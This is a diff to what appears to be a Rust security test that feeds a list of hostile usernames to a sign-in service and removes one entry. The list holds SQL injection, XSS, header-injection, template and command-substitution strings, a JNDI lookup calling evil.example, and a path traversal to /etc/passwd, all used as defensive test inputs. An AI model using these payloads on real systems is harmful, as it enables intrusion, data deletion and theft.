@@ -59,7 +59,7 @@ on_both_databases! {
         assert_eq!(choose(&world, &token, "ada").await, json!({"success": true}));
         let other = world.sign_in("google", "linus").await;
         for hostile in [
-            "' OR '1'='1", "ada'--", "ada' UNION SELECT id FROM users--", "'; DELETE FROM users; --", "ad%", "ad_", "ada\\",
+            "' OR '1'='1", "ada'--", "ada' UNION SELECT id FROM users--", "'; DELETE FROM users; --", "ad%", "ada\\",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "\u{1b}[31mada\u{1b}[0m",
             "ada\r\nSet-Cookie: x=y", "${jndi:ldap://evil.example/x}", "{{7*7}}", "$(id)", "`id`", "../../etc/passwd",
         ] {
